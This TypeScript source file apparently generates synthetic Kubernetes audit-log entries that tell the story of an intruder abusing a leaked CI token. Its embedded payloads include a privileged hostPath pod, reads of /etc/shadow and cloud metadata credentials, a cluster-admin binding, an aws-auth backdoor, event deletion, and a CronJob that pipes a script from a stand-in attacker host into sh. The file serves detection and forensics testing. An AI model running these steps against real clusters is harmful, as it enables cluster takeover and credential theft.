// The story worth finding: a CI token leaks, and what its finder does with it in seventy minutes. README.md tells it in words.

import { type Actor, type Call, go, goText, refused, type Target, time } from './encode.ts';
import { type Planned, planner } from './plan.ts';
import { bound, type Population } from './population.ts';
import { seeded } from './random.ts';

/** Length of the story, seconds, when it isn't shortened. */
export const STORY_SECONDS = 4200;

export const INTRUDER = {
  ip: '198.51.100.77',
  agent: 'kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46',
  username: 'system:serviceaccount:ci:deployer',
  second: 'system:serviceaccount:argocd:argocd-application-controller',
  namespace: 'payments',
  secrets: ['payment-gateway', 'ledger-db', 'stripe-webhook'],
  binding: 'eks-metrics-aggregator',
  cronJob: 'node-health-sync',
  tokenFor: 'cluster-autoscaler',
  roleArn: 'arn:aws:iam::999988887777:role/support-readonly',
} as const;

const RBAC = { group: 'rbac.authorization.k8s.io', version: 'v1' };

/** Plans the intruder's requests. `begin` in microseconds since the epoch. */
export function intrusion(seed: number, population: Population, begin: number, scale: number): Planned[] {
  const random = seeded(seed, `intruder/${population.cluster.name}`);
  const { at, planned } = planner(begin, scale, random);
  const { namespace, ip } = INTRUDER;
  const now = (seconds: number) => begin + seconds * scale * 1e6;
  const deployer: Actor = {
    ...population.serviceAccount('ci', 'deployer', INTRUDER.agent, ip),
    stream: 0,
    reason: bound('RoleBinding', 'deployer/payments', 'ci-deployer', 'ServiceAccount "deployer/ci"'),
  };
  const basic = {
    ...deployer,
    reason: bound('ClusterRoleBinding', 'system:basic-user', 'system:basic-user', 'Group "system:authenticated"'),
  };
  const nobody: Actor = { ...deployer, user: '{}', agent: goText('curl/8.5.0') };
  const argo: Actor = {
    ...population.serviceAccount('argocd', 'argocd-application-controller', INTRUDER.agent, ip),
    stream: 1 % population.apiServers,
  };
  const master: Actor = {
    ...deployer,
    reason: bound('ClusterRoleBinding', INTRUDER.binding, 'cluster-admin', 'ServiceAccount "deployer/ci"'),
  };
  const pod = `node-debugger-${random.suffix(5)}`;
  const podUid = random.uuid();
  const node = random.pick(population.nodes);
  const target = (resource: string, more: Partial<Target> = {}): Target => ({ resource, namespace, ...more });

  // 1. An expired copy of the token: nobody gets in
  const closed: readonly (readonly [Call['level'], Target])[] = [
    ['Request', { resource: 'namespaces' }],
    ['Metadata', { resource: 'secrets' }],
    ['Request', { resource: 'pods' }],
    ['Metadata', { resource: 'secrets', namespace: 'kube-system' }],
    ['Request', { resource: 'nodes' }],
    ['Request', { group: 'rbac.authorization.k8s.io', resource: 'clusterroles' }],
  ];
  closed.forEach(([level, what], i) =>
    at(i * 7, 'unauthorized', {
      level,
      verb: 'list',
      actor: nobody,
      target: what,
      query: 'limit=500',
      code: 401,
      took: 300 + i,
      failure: '"status":"Failure","message":"Unauthorized","reason":"Unauthorized"',
    }),
  );

  // 2. A fresh one: what may I do?
  ['default', 'kube-system', 'shop', namespace].forEach((where, i) => {
    const status = go({
      resourceRules: [
        {
          verbs: ['create'],
          apiGroups: ['authorization.k8s.io'],
          resources: ['selfsubjectaccessreviews', 'selfsubjectrulesreviews'],
        },
        ...(where === namespace
          ? [
              { verbs: ['get', 'list'], apiGroups: [''], resources: ['secrets', 'pods'] },
              { verbs: ['create', 'delete'], apiGroups: [''], resources: ['pods', 'pods/exec'] },
            ]
          : []),
      ],
      nonResourceRules: [{ verbs: ['get'], nonResourceURLs: ['/api', '/api/*', '/healthz', '/version'] }],
      incomplete: false,
    });
    const head = '{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","metadata":{},';
    at(420 + i * 25, 'self-review', {
      level: 'RequestResponse',
      verb: 'create',
      actor: basic,
      target: { group: 'authorization.k8s.io', resource: 'selfsubjectrulesreviews' },
      code: 201,
      request: `${head}"spec":{"namespace":"${where}"},"status":{"resourceRules":null,"nonResourceRules":null,"incomplete":false}}`,
      response: `${head}"spec":{},"status":${status}}`,
    });
  });

  // 3. Doors that stay shut
  const others = population.namespaces.filter((name) => name !== namespace);
  const shut: readonly Target[] = [
    { resource: 'secrets' },
    ...others.map((name) => ({ resource: 'secrets', namespace: name })),
    { resource: 'nodes' },
    { ...RBAC, resource: 'clusterrolebindings' },
  ];
  shut.forEach((what, i) =>
    at(540 + i * 11, 'forbidden', {
      level: what.resource === 'secrets' ? 'Metadata' : 'Request',
      verb: 'list',
      actor: deployer,
      target: what,
      query: 'limit=500',
      forbidden: true,
      ...refused(INTRUDER.username, 'list', what),
    }),
  );
  const early: Target = { ...RBAC, resource: 'clusterrolebindings' };
  const no = refused(INTRUDER.username, 'create', early);
  at(760, 'forbidden', {
    level: 'RequestResponse',
    verb: 'create',
    actor: deployer,
    target: early,
    query: 'fieldManager=kubectl-create&fieldValidation=Strict',
    forbidden: true,
    response: no.status,
    ...no,
  });

  // 4. One that opens
  at(800, 'secrets-listed', {
    level: 'Metadata',
    verb: 'list',
    actor: deployer,
    target: target('secrets'),
    query: 'limit=500',
    code: 200,
  });
  INTRUDER.secrets.forEach((name, i) =>
    at(830 + i * 17, 'secret-read', {
      level: 'Metadata',
      verb: 'get',
      actor: deployer,
      target: target('secrets', { name }),
      code: 200,
    }),
  );

  // 5. A pod that owns its node
  const podSpec = `"spec":{"volumes":[{"name":"host","hostPath":{"path":"/","type":""}}],"containers":[{"name":"debugger","image":"docker.io/library/alpine:3.20","command":["sleep","86400"],"resources":{},"volumeMounts":[{"name":"host","mountPath":"/host"}],"terminationMessagePath":"/dev/termination-log","terminationMessagePolicy":"File","imagePullPolicy":"IfNotPresent","securityContext":{"privileged":true}}],"restartPolicy":"Never","terminationGracePeriodSeconds":30,"dnsPolicy":"ClusterFirst","nodeName":"${node.name}","hostNetwork":true,"hostPID":true,"securityContext":{},"schedulerName":"default-scheduler","tolerations":[{"operator":"Exists"}],"enableServiceLinks":true}`;
  const stored = (phase: string, seconds: number) =>
    `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"${pod}","namespace":"${namespace}","uid":"${podUid}","resourceVersion":"${random.between(48_000_000, 49_000_000)}","generation":1,"creationTimestamp":"${time(now(seconds))}"},${podSpec},"status":{"phase":"${phase}","qosClass":"BestEffort"}}`;
  at(1200, 'privileged-pod', {
    level: 'RequestResponse',
    verb: 'create',
    actor: deployer,
    target: target('pods', { bodyName: pod }),
    query: 'fieldManager=kubectl-client-side-apply&fieldValidation=Strict',
    code: 201,
    request: `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"${pod}","namespace":"${namespace}"},${podSpec},"status":{}}`,
    response: stored('Pending', 1200),
    after:
      `"pod-security.kubernetes.io/audit-violations":${go('would violate PodSecurity "baseline:latest": host namespaces (hostNetwork=true, hostPID=true), hostPath volumes (volume "host"), privileged (container "debugger" must not set securityContext.privileged=true)')},` +
      '"pod-security.kubernetes.io/enforce-policy":"privileged:latest"',
  });
  at(1202, 'pod-started', {
    level: 'Request',
    verb: 'patch',
    actor: node.kubelet,
    target: target('pods', { name: pod, sub: 'status' }),
    code: 200,
    request: `{"metadata":{"uid":"${podUid}"},"status":{"phase":"Running","hostIP":"${node.ip}","podIP":"${node.ip}","startTime":"${time(now(1201))}"}}`,
  });

  // 6. Inside: kubectl up to 1.29 executes by POST over SPDY, newer ones by GET over WebSocket
  const exec = (seconds: number, verb: string, command: readonly string[], took: number) =>
    at(seconds, 'exec', {
      level: verb === 'get' ? 'Request' : 'RequestResponse',
      verb,
      actor: deployer,
      target: target('pods', { name: pod, sub: 'exec' }),
      query: `${command.map((word) => `command=${encodeURIComponent(word)}`).join('&')}&container=debugger&stdin=true&stdout=true&tty=true`,
      code: 101,
      startedAfter: 14_000,
      took: Math.round(took * scale * 1e6),
    });
  exec(1290, 'create', ['sh', '-c', 'cat /host/etc/shadow > /tmp/s && ls /host/var/lib/kubelet/pods'], 4);
  exec(1380, 'get', ['sh', '-c', 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/'], 9);
  exec(1500, 'get', ['chroot', '/host', 'sh'], 840);

  // 7. A stronger token lay on that node. It makes the first one admin
  const subjects = `"subjects":[{"kind":"ServiceAccount","name":"deployer","namespace":"ci"}],"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}`;
  const bindingHead = '{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{';
  at(2400, 'admin-binding', {
    level: 'RequestResponse',
    verb: 'create',
    actor: argo,
    target: { ...RBAC, resource: 'clusterrolebindings', bodyName: INTRUDER.binding },
    query: 'fieldManager=kubectl-create&fieldValidation=Strict',
    code: 201,
    request: `${bindingHead}"name":"${INTRUDER.binding}"},${subjects}}`,
    response: `${bindingHead}"name":"${INTRUDER.binding}","uid":"${random.uuid()}","resourceVersion":"${random.between(48_000_000, 49_000_000)}","creationTimestamp":"${time(now(2400))}"},${subjects}}`,
  });

  // 8. To stay: a long-lived token, a CronJob, a way in through IAM
  at(2700, 'token-request', {
    level: 'Request',
    verb: 'create',
    actor: master,
    target: { resource: 'serviceaccounts', namespace: 'kube-system', name: INTRUDER.tokenFor, sub: 'token' },
    code: 201,
    keepsReceived: true,
    before: `"authentication.kubernetes.io/issued-credential-id":"JTI=${random.uuid()}"`,
    request:
      '{"kind":"TokenRequest","apiVersion":"authentication.k8s.io/v1","metadata":{},"spec":{"audiences":null,"expirationSeconds":31536000,"boundObjectRef":null},"status":{"token":"","expirationTimestamp":null}}',
  });
  const jobSpec = `"spec":{"schedule":"*/30 * * * *","concurrencyPolicy":"Forbid","suspend":false,"jobTemplate":{"metadata":{},"spec":{"template":{"metadata":{},"spec":{"containers":[{"name":"sync","image":"docker.io/library/alpine:3.20","command":["sh","-c","wget -qO- http://${ip}/h.sh | sh ${goText('>')}/dev/null 2${goText('>&')}1"],"resources":{},"imagePullPolicy":"IfNotPresent"}],"restartPolicy":"OnFailure","serviceAccountName":"${INTRUDER.tokenFor}","hostNetwork":true}}}},"successfulJobsHistoryLimit":0,"failedJobsHistoryLimit":0}`;
  const jobHead = `{"kind":"CronJob","apiVersion":"batch/v1","metadata":{"name":"${INTRUDER.cronJob}","namespace":"kube-system"`;
  at(2940, 'cron-job', {
    level: 'RequestResponse',
    verb: 'create',
    actor: master,
    target: { group: 'batch', resource: 'cronjobs', namespace: 'kube-system', bodyName: INTRUDER.cronJob },
    query: 'fieldManager=kubectl-create&fieldValidation=Strict',
    code: 201,
    request: `${jobHead}},${jobSpec},"status":{}}`,
    response: `${jobHead},"uid":"${random.uuid()}","resourceVersion":"${random.between(48_000_000, 49_000_000)}","generation":1,"creationTimestamp":"${time(now(2940))}"},${jobSpec},"status":{}}`,
  });
  const own = `- rolearn: arn:aws:iam::${population.cluster.account}:role/eks-${population.cluster.name}-node\n  username: system:node:{{EC2PrivateDNSName}}\n  groups: ["system:bootstrappers", "system:nodes"]\n`;
  const added = `${own}- rolearn: ${INTRUDER.roleArn}\n  username: support\n  groups: ["system:masters"]\n`;
  at(3300, 'aws-auth', {
    level: 'RequestResponse',
    verb: 'patch',
    actor: master,
    target: { resource: 'configmaps', namespace: 'kube-system', name: 'aws-auth' },
    query: 'fieldManager=kubectl-edit',
    code: 200,
    request: go({ data: { mapRoles: added } }),
    response: `{"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":"aws-auth","namespace":"kube-system","uid":"${random.uuid()}","resourceVersion":"${random.between(48_000_000, 49_000_000)}","creationTimestamp":"2026-01-14T09:02:11Z"},"data":${go({ mapRoles: added })}}`,
  });

  // 9. Brooms. EKS records nothing of core events, so only the newer API group shows it
  at(3780, 'events-deleted', {
    level: 'Metadata',
    verb: 'deletecollection',
    actor: master,
    target: { group: 'events.k8s.io', resource: 'events', namespace },
    code: 200,
  });
  at(3900, 'pod-deleted', {
    level: 'RequestResponse',
    verb: 'delete',
    actor: master,
    target: target('pods', { name: pod }),
    query: 'gracePeriodSeconds=0',
    code: 200,
    request:
      '{"kind":"DeleteOptions","apiVersion":"meta.k8s.io/__internal","gracePeriodSeconds":0,"propagationPolicy":"Background"}',
    response: stored('Running', 1200),
  });
  return planned;
}
